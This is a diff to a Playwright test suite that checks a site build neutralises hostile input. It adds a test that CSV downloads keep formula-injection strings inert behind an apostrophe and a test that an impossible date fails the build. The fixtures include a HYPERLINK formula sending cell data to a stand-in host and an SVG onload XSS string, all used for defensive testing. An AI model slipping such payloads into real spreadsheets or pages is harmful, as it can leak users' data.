@@ -6,6 +6,7 @@
  * - the site works under a sub-path (BASE_PATH=/ctai/).
  * Ports: PORT + 2 (hostile) and PORT + 3 (sub-path).
  */
+import { csvCells, wouldRun } from './lib/csv-cells.ts';
 import { test, expect } from '@playwright/test';
 import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
 import { cpSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
@@ -71,6 +72,21 @@ test.describe('hostile content comes out inert', () => {
     expect(all).toContain('XSS-nom &quot;&gt;&lt;svg onload=alert(1)');
   });
 
+  test('every CSV it serves opens inert in a spreadsheet, formula-like text kept behind an apostrophe', () => {
+    const { files, cells } = csvCells(dist);
+    expect(files.some((f) => f.includes('/graphiques/'))).toBe(true);
+    expect(cells.filter((c) => wouldRun(c.value)).map((c) => `${c.where} ${c.value}`)).toEqual([]);
+    const values = new Set(cells.map((c) => c.value));
+    // The hostile texts are there, neutralised rather than dropped: open data and chart downloads.
+    for (const text of [
+      '=1+1 Strasbourg XSS-formule',
+      '=HYPERLINK("https://exemple.invalid/?x="&A1,"XSS-formule porteur")',
+      '@SUM(1+1) XSS-formule public',
+    ])
+      expect(values, text).toContain(`'${text}`);
+    expect(cells.some((c) => c.where.startsWith('donnees/graphiques/') && c.value.startsWith("'=1+1 Strasbourg"))).toBe(true);
+  });
+
   test('every page shows the strings as text, and no script runs (CSP bypassed)', async ({ browser }) => {
     server = await serve(dist, PORT + 2);
     const context = await browser.newContext({ bypassCSP: true });
@@ -106,6 +122,17 @@ test.describe('hostile content comes out inert', () => {
     expect(seen.size, [...seen].join(', ')).toBeGreaterThan(0);
     await context.close();
   });
+});
+
+test('an impossible article date (2026-13-45) fails the build with file, line and field, never rolled over', () => {
+  const content = resolve('.tmp/content-bad-date');
+  rmSync(content, { recursive: true, force: true });
+  cpSync('tests/fixtures/hostile-content', content, { recursive: true });
+  cpSync('tests/fixtures/hostile-inputs/articles/date-2026-13-45.md', `${content}/articles/date-2026-13-45.md`);
+  const r = build('.tmp/dist-bad-date', { CTAI_CONTENT_DIR: content });
+  expect(r.code).not.toBe(0);
+  expect(r.output).toContain('content-bad-date/articles/date-2026-13-45.md:3 › date : date impossible « 2026-13-45 »');
+  expect(r.output).not.toMatch(/février 2027/);
 });
 
 test('content pointing to an unknown territory or domain fails the build, naming file and field', () => {
